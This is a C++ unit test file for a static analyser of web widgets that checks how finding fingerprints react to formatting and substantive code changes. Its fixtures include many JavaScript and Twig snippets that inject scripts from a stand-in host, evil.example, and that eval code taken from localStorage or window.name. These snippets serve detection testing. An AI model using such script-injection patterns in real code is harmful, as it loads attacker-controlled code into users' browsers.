// A fingerprint names the same finding through every edit that does not concern it, and another one
// as soon as something else is loaded, run or sent.
#include "engine/fingerprint.hpp"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "core/widget/memory_widget.hpp"
#include "engine/finding_head.hpp"
#include "engine/present.hpp"
#include "engine/run.hpp"
#include "rule/table.hpp"

namespace premod {
namespace {

/// The fingerprints of what `rule` finds in a widget of one file.
std::vector<std::string> fingerprints(std::string_view rule, const std::string& source,
                                      const std::string& path = "script.js") {
  const Widget widget = test::widget_of({{path, source}, {"manifest.json", "{}"}});
  std::vector<const Rule*> rules;
  for (const RuleEntry& entry : rule_table())
    if (entry.rule->id == rule) rules.push_back(entry.rule);
  EXPECT_EQ(rules.size(), 1U) << rule;
  Fingerprints numbers;
  Report report;
  present(widget, run(widget, rules), {}, numbers, report);
  std::vector<std::string> out;
  for (const Finding& finding : split_by_place(report.findings)) out.push_back(finding.fingerprint);
  return out;
}

struct Change {
  const char* what;
  std::string_view rule;
  std::string before;
  std::string after;
  bool same;
  std::string path = "script.js";
};

std::string script_of(const std::string& body) {
  return "define(['jquery'], function ($) {\n  return function () {\n" + body + "\n  };\n});\n";
}

std::string repeated(const std::string& text, int times) {
  std::string out;
  for (int i = 0; i < times; ++i) out += text;
  return out;
}

/// The same line in a widget, before and after.
Change line(const char* what, std::string_view rule, const std::string& before,
            const std::string& after, bool same) {
  return {what, rule, script_of("    " + before), script_of("    " + after), same};
}

std::vector<Change> formatting() {
  const std::string log = "console.log('a', b);";
  return {
      line("quotes", "js-console", log, "console.log(\"a\", b);", true),
      line("a template without holes", "js-console", log, "console.log(`a`, b);", true),
      line("a renamed parameter beside", "js-script-injection",
           "function load(u, done) { $.getScript(u, done); } load('https://a.example/a.js', f);",
           "function load(u, done) { $.getScript( u , done ) }\n load(\"https://a.example/a.js\", "
           "f)",
           true),
      line("a number's leading zero", "js-platform-write", "APP.x = .5;", "APP.x = 0.5;", true),
      line("letters of a number", "js-platform-write", "APP.x = 0XAB;", "APP.x = 0xab;", true),
      line("the letter of an exponent", "js-platform-write", "APP.x = 1E3;", "APP.x = 1e3;", true),
      line("separators of a number", "js-platform-write", "APP.x = 1_000;", "APP.x = 1000;", true),
      line("letters of a big number", "js-platform-write", "APP.x = 0XFFn;", "APP.x = 0xffn;",
           true),
      line("quotes around a key", "js-console", "console.log({'a': 1});", "console.log({a: 1});",
           true),
      line("a member by its text", "js-console", "console.log(x['a']);", "console.log(x.a);", true),
      line("another key", "js-console", "console.log({a: 1});", "console.log({b: 1});", false),
      line("no semicolon", "js-console", log, "console.log('a', b)", true),
      line("spaces", "js-console", log, "console.log( 'a',b );", true),
      line("a comment behind", "js-console", log, "console.log('a', b); // debug", true),
      line("a comment inside", "js-console", log, "console.log(/* what */ 'a', b);", true),
      line("brackets", "js-console", log, "console.log(('a'), b);", true),
      line("wrapped", "js-console", log, "console.log(\n      'a',\n      b,\n    );", true),
      line("wrapped at the dot", "js-console", log, "console\n      .log('a', b);", true),
      line("a wrapped text", "js-console", "console.log('ab', b);",
           "console.log('a' +\n      'b', b);", true),
      line("indentation", "js-console", log, "\t\t\t" + log, true),
      line("lines above", "js-console", log, "var x = 1;\n\n\n    " + log, true),
      line("another line beside", "js-console", log, "var x = 1; " + log + " x++;", true),
      line("moved into a block", "js-console", log, "if (b) {\n      " + log + "\n    }", true),
      {"line ends", "js-console", script_of(log),
       "define(['jquery'], function ($) {\r\n" + log + "\r\n});\r\n", true},
      {"colour in lower case", "css-global-selector", "input { color: #FFF; }\n",
       "input {\n  color: #fff;\n}\n", true, "style.css"},
      {"a declaration more", "css-global-selector", "input { color: red; }\n",
       "input { color: red; margin: 0; }\n", true, "style.css"},
      {"a comment in a sheet", "css-global-selector", "input { color: red; }\n",
       "/* forms */\ninput /* all */ { color: red; }\n", true, "style.css"},
  };
}

std::vector<Change> substance() {
  const std::string injected =
      "var s = document.createElement('script'); s.src = 'https://good.example/a.js'; "
      "document.head.appendChild(s);";
  const std::string other =
      "var s = document.createElement('script'); s.src = 'https://evil.example/a.js'; "
      "document.head.appendChild(s);";
  return {
      line("another text", "js-console", "console.log('a');", "console.log('b');", false),
      line("another method", "js-console", "console.log('a');", "console.warn('a');", false),
      line("another address of a script", "js-script-injection", injected, other, false),
      line("another text of a script", "js-script-injection",
           "var s = document.createElement('script'); s.text = 'a()'; document.head.append(s);",
           "var s = document.createElement('script'); s.text = 'b()'; document.head.append(s);",
           false),
      line("the end of a long text of a script", "js-script-injection",
           "var s = document.createElement('script'); s.textContent = '" + std::string(900, 'x') +
               "'; document.head.append(s);",
           "var s = document.createElement('script'); s.textContent = '" + std::string(899, 'x') +
               "y'; document.head.append(s);",
           false),
      line("an address that a parameter brings", "js-script-injection",
           "function load(u) { var s = document.createElement('script'); s.src = u; "
           "document.head.append(s); } load('https://good.example/a.js');",
           "function load(u) { var s = document.createElement('script'); s.src = u; "
           "document.head.append(s); } load('https://evil.example/a.js');",
           false),
      line("what a parameter brings to getScript", "js-script-injection",
           "function load(u) { $.getScript(u); } load('https://good.example/a.js');",
           "function load(u) { $.getScript(u); } load('https://evil.example/a.js');", false),
      line("the end of a long sum", "js-eval", "eval('a' + " + repeated("x + ", 100) + "'b');",
           "eval('a' + " + repeated("x + ", 100) + "'c');", false),
      line("another script by getScript", "js-script-injection",
           "$.getScript('https://good.example/a.js');", "$.getScript('https://evil.example/a.js');",
           false),
      line("the variable's address", "js-script-injection",
           "var u = 'https://good.example/a.js'; $.getScript(u);",
           "var u = 'https://evil.example/a.js'; $.getScript(u);", false),
      line("the variable's code", "js-eval", "var code = 'a()'; eval(code);",
           "var code = localStorage.x; eval(code);", false),
      line("assigned later", "js-eval", "var code; code = 'a()'; eval(code);",
           "var code; code = window.name; eval(code);", false),
      line("other code", "js-eval", "eval('a()');", "eval('b()');", false),
      line("other code, last argument", "js-eval", "new Function('a', 'return a');",
           "new Function('a', 'return fetch(a)');", false),
      line("another path of the platform", "js-platform-write", "APP.x = 1;", "APP.y = 1;", false),
      line("another value for the platform", "js-platform-write", "APP.x = 1;", "APP.x = 2;",
           false),
      line("the value on its own line", "js-platform-write", "APP.x =\n      1;",
           "APP.x =\n      2;", false),
      {"another selector", "css-global-selector", "input { color: red; }\n",
       "button { color: red; }\n", false, "style.css"},
      {"another host of a sheet", "css-external-resource",
       ".a { background: url(https://good.example/a.png); }\n",
       ".a { background: url(https://evil.example/a.png); }\n", false, "style.css"},
      {"another address of a template", "template-external-resource",
       "<img src=\"https://good.example/a.png\">\n", "<img src=\"https://evil.example/a.png\">\n",
       false, "templates/a.twig"},
      {"the template's variable", "template-external-resource",
       "{% set u = 'https://good.example/a.js' %}<script src=\"{{ u }}\"></script>\n",
       "{% set u = 'https://evil.example/a.js' %}<script src=\"{{ u }}\"></script>\n", false,
       "templates/a.twig"},
      {"far away in a long line", "js-eval",
       script_of("var x = '" + std::string(900, 'x') + "'; eval('a()');"),
       script_of("var x = '" + std::string(900, 'x') + "'; eval('b()');"), false},
  };
}

/// `code` with `text` in each place of `@`.
std::string with(std::string code, const std::string& text) {
  for (auto at = code.find('@'); at != code.npos; at = code.find('@', at + text.size()))
    code.replace(at, 1, text);
  return code;
}

/// The same code with another address, function or text in the place of `@`.
Change other(const char* what, std::string_view rule, const std::string& code,
             const std::string& before = "https://good.example/a.js",
             const std::string& after = "https://evil.example/a.js") {
  return line(what, rule, with(code, before), with(code, after), false);
}

std::vector<Change> made_elements() {
  const std::string_view rule = "js-script-injection";
  const std::string made = "var s = document.createElement('script'); ";
  const std::string added = " document.head.append(s);";
  return {
      other("setAttribute", rule, made + "s.setAttribute('src', '@');" + added),
      other("a variable in setAttribute", rule,
            "var u = '@'; " + made + "s.setAttribute('src', u);" + added),
      other("setAttributeNode", rule,
            made +
                "var a = document.createAttribute('src'); a.value = '@'; "
                "s.setAttributeNode(a);" +
                added),
      other("Object.assign", rule, made + "Object.assign(s, {src: '@'});" + added),
      other("a helper that sets it", rule,
            "function set(el, u) { el.src = u; } " + made + "set(s, '@');" + added),
      other("set by another function", rule, made + "function go() { s.src = '@'; } go();" + added),
      other("kept in a field", rule,
            "this.s = document.createElement('script'); this.s.src = '@'; "
            "document.head.append(this.s);"),
      other("kept in an object", rule,
            "var o = {}; o.s = document.createElement('script'); o.s.src = '@'; "
            "document.head.append(o.s);"),
      other("made by a helper", rule,
            "function make() { return document.createElement('script'); } var s = make(); "
            "s.src = '@';" +
                added),
      other("made by an arrow", rule,
            "const make = () => document.createElement('script'); var s = make(); s.src = '@';" +
                added),
      other("a chain of jQuery", rule, "$('<script>').attr('src', '@').appendTo('head');"),
      other("properties of jQuery", rule, "$('<script>', {src: '@'}).appendTo('head');"),
      other("another Blob", rule, made + "s.src = URL.createObjectURL(new Blob(['@']));" + added,
            "a()", "b()"),
      other("a Blob in a variable", rule,
            "var code = ['@']; var b = new Blob(code); " + made +
                "s.src = URL.createObjectURL(b);" + added,
            "a()", "b()"),
      other("another handler", rule, "$('.a').attr('onclick', '@');", "a()", "b()"),
      other("another handler by setAttribute", rule,
            "var h = '@'; document.querySelector('.a').setAttribute('onclick', h);", "a()", "b()"),
  };
}

/// The element goes another way before it gets its address.
std::vector<Change> led_elsewhere() {
  const std::string_view rule = "js-script-injection";
  const std::string make = "document.createElement('script')";
  const std::string set = " s.src = '@'; document.head.append(s);";
  const auto way = [&](const char* what, const std::string& code) {
    return other(what, rule, code);
  };
  return {
      way("an argument", "function add(s) {" + set + " } add(" + make + ");"),
      way("an argument and an address",
          "function add(s, u) { s.src = u; document.head.append(s); } add(" + make + ", '@');"),
      way("called at once", "var s = (function () { return " + make + "; })();" + set),
      way("a promise", "Promise.resolve(" + make + ").then(function (s) {" + set + " });"),
      way("awaited", "(async function () { var s = await " + make + ";" + set + " })();"),
      way("merged", "document.head.append(Object.assign(" + make + ", {src: '@'}));"),
      way("merged and kept", "var s = Object.assign(" + make + ", {async: true});" + set),
      way("an alias", "var made = " + make + "; var s = made;" + set),
      way("an alias given later", "var made = " + make + ", s; s = made;" + set),
      way("either", "var s = window.acme || " + make + ";" + set),
      way("a choice", "var s = window.acme ? window.acme : " + make + ";" + set),
      way("an object", "var o = {s: " + make + "}; o.s.src = '@'; document.head.append(o.s);"),
      way("a list", "var list = [" + make + "]; list[0].src = '@'; document.head.append(list[0]);"),
      way("each of a list", "[" + make + "].forEach(function (s) {" + set + " });"),
      way("taken apart", "var {s} = {s: " + make + "};" + set),
      way("a default of a pattern", "var {s = " + make + "} = window.acme;" + set),
      way("a default of a parameter", "function add(s = " + make + ") {" + set + " } add();"),
      way("a member by its text",
          "this.s = " + make + "; this['s'].src = '@'; document.head.append(this.s);"),
      way("another name of this", "var self = this; this.s = " + make +
                                      "; self.s.src = '@'; document.head.append(this.s);"),
      way("an alias of a field", "this.s = " + make + "; var s = this.s;" + set),
      way("a method",
          "var o = {make: function () { return " + make + "; }}; var s = o.make();" + set),
      way("a method of this",
          "this.make = function () { return " + make + "; }; var s = this.make();" + set),
      way("a method of a class",
          "class Maker { make() { return " + make + "; } } var s = new Maker().make();" + set),
      way("a callback",
          "function make(done) { done(" + make + "); } make(function (s) {" + set + " });"),
      way("two assignments", "var a, s; s = a = " + make + ";" + set),
      way("a comma", "var s = (0, " + make + ");" + set),
      way("written at once", "document.head.append(" + make + "); " + make + ".src = '@';"),
  };
}

std::vector<Change> handed_back() {
  const std::string_view rule = "js-script-injection";
  return {
      other("a function that returns it", rule, "function u() { return '@'; } $.getScript(u());"),
      other("an arrow that returns it", rule, "var u = () => '@'; $.getScript(u());"),
      other("a method that returns it", rule,
            "var c = {u: function () { return '@'; }}; $.getScript(c.u());"),
      other("through two functions", rule,
            "function a(u) { b(u); } function b(x) { $.getScript(x); } a('@');"),
      other("a default", rule, "function a(u = '@') { $.getScript(u); } a();"),
      other("an item of a list", rule, "['@'].forEach(function (u) { $.getScript(u); });"),
      other("decoded", rule, "$.getScript(atob('@'));",
            "aHR0cHM6Ly9nb29kLmV4YW1wbGUvYQ==", "aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYQ=="),
      other("code of a function", "js-eval", "function code() { return '@'; } eval(code());", "a()",
            "b()"),
      other("code of a field", "js-eval", "var o = {c: '@'}; eval(o.c);", "a()", "b()"),
  };
}

/// As `other`, in a template.
Change written(const char* what, std::string_view rule, const std::string& code,
               const std::string& before = "https://good.example/a.js",
               const std::string& after = "https://evil.example/a.js") {
  return {what, rule, with(code, before), with(code, after), false, "templates/a.twig"};
}

std::vector<Change> templates() {
  return {
      written("a tag that twig names", "template-script",
              "{% set t = 'script' %}<{{ t }} src=\"@\"></{{ t }}>"),
      written("an argument of a macro", "template-script",
              "{% macro m(u) %}<script src=\"{{ u }}\"></script>{% endmacro %}{{ _self.m('@') }}"),
      written("an item of a loop", "template-script",
              "{% for u in ['@'] %}<script src=\"{{ u }}\"></script>{% endfor %}"),
      written("the second of two outputs", "template-external-resource",
              "{% set a = 'https:' %}{% set u = '@' %}<script src=\"{{ a }}{{ u }}\"></script>",
              "//good.example/a.js", "//evil.example/a.js"),
      written("a choice", "template-script", "<script src=\"{{ x ? '@' : '/a.js' }}\"></script>"),
      written("an import map", "template-external-resource",
              "<script type=\"importmap\">{\"imports\": {\"a\": \"@\"}}</script>"),
      written("a handler that twig takes from a name", "js-eval",
              "{% set h = 'eval(@)' %}<b onclick=\"{{ h }}\">x</b>", "a", "b"),
      written("another handler", "template-inline-script", "<b onclick=\"@()\">x</b>", "a", "b"),
  };
}

/// `found`: each of the changes is one of something that the rule finds.
void expect(const std::vector<Change>& changes, bool found = true) {
  for (const Change& change : changes) {
    SCOPED_TRACE(change.what);
    const auto before = fingerprints(change.rule, change.before, change.path);
    const auto after = fingerprints(change.rule, change.after, change.path);
    if (!found && before.empty() && !change.same)
      continue;  // the rule's own tests say what it finds
    ASSERT_FALSE(before.empty());
    ASSERT_FALSE(after.empty());
    EXPECT_EQ(before == after, change.same);
  }
}

TEST(Fingerprint, SurvivesFormattingAndMoves) { expect(formatting()); }

TEST(Fingerprint, ChangesWithWhatIsLoadedRunOrSent) { expect(substance(), false); }

TEST(Fingerprint, ChangesWithWhatBecomesOfAMadeElement) { expect(made_elements()); }

TEST(Fingerprint, ChangesWithWhatBecomesOfAnElementElsewhere) { expect(led_elsewhere()); }

TEST(Fingerprint, ChangesWithWhatAFunctionHandsBack) { expect(handed_back()); }

TEST(Fingerprint, ChangesWithWhatATemplateWrites) { expect(templates()); }

TEST(Fingerprint, ASecondCallLeavesTheFirstAlone) {
  const auto one = fingerprints("js-console", script_of("console.log('a');"));
  const auto two = fingerprints(
      "js-console", script_of("console.log('a');\nconsole.log('b');\nconsole.log('a');"));
  ASSERT_EQ(two.size(), 3U);
  EXPECT_EQ(two[0], one[0]);
  EXPECT_NE(two[1], one[0]);
  EXPECT_NE(two[2], one[0]);
}

TEST(Fingerprint, TellsRulesFilesAndVariantsApart) {
  Hit plain;
  Hit variant;
  variant.variant_name = "value";
  EXPECT_NE(identity_of("js-console", "a.js", plain), identity_of("js-console", "b.js", plain));
  EXPECT_NE(identity_of("js-console", "a.js", plain), identity_of("js-console", "a.js", variant));
  EXPECT_NE(identity_of("js-console", "a.js", plain), identity_of("js-alert", "a.js", plain));
}

TEST(Fingerprint, CountsDoNotMakeAnotherFinding) {
  Hit before;
  before.values = {{"count", "3"}, {"file", "a.js"}};
  Hit after;
  after.values = {{"count", "4"}, {"file", "a.js"}};
  Hit other;
  other.values = {{"count", "3"}, {"file", "b.js"}};
  EXPECT_EQ(identity_of("r", "p", before), identity_of("r", "p", after));
  EXPECT_NE(identity_of("r", "p", before), identity_of("r", "p", other));
}

TEST(Fingerprint, TwinsAreNumberedAndKeepTheirNumbers) {
  Fingerprints two;
  const std::string first = two.next("x");
  const std::string second = two.next("x");
  Fingerprints three;
  EXPECT_EQ(three.next("x"), first);
  EXPECT_EQ(three.next("x"), second);
  EXPECT_NE(three.next("x"), second);
  EXPECT_NE(first, second);
  EXPECT_EQ(first.size(), 32U);
  EXPECT_EQ(first.find_first_not_of("0123456789abcdef"), std::string::npos);
}

TEST(Fingerprint, FormattingIsTakenOutOfText) {
  EXPECT_EQ(without_formatting("  'a'  +\n b ; ", 100), "\"a\"+b");
  EXPECT_EQ(without_formatting("var  x", 100), "var x");
  EXPECT_EQ(without_formatting(std::string(1'000'000, ' ') + "x", 100), "x");
}

// What stands behind the part that is kept still tells two findings apart.
TEST(Fingerprint, ALongTextIsKnownToItsEnd) {
  const std::string text(10'000, 'x');
  EXPECT_LE(without_formatting(text, 100).size(), 200U);
  EXPECT_NE(without_formatting(text + "a", 100), without_formatting(text + "b", 100));
  EXPECT_EQ(without_formatting(text + " ; ", 100), without_formatting(text, 100));
  EXPECT_EQ(without_formatting(std::string(100, 'x'), 100), std::string(100, 'x'));
  Hit before, after;
  before.values = {{"target", text + "a"}};
  after.values = {{"target", text + "b"}};
  EXPECT_NE(identity_of("r", "p", before), identity_of("r", "p", after));
  const std::string start = "<?php\nvar_dump('" + text, end = "');\n";
  EXPECT_NE(fingerprints("php-dump", start + "a" + end, "a.php"),
            fingerprints("php-dump", start + "b" + end, "a.php"));
  const std::string blank(100'000, ' ');
  EXPECT_EQ(fingerprints("php-dump", "<?php\nvar_dump($a);\n", "a.php"),
            fingerprints("php-dump", "<?php\n" + blank + "var_dump($a);\n", "a.php"));
}

}  // namespace
}  // namespace premod
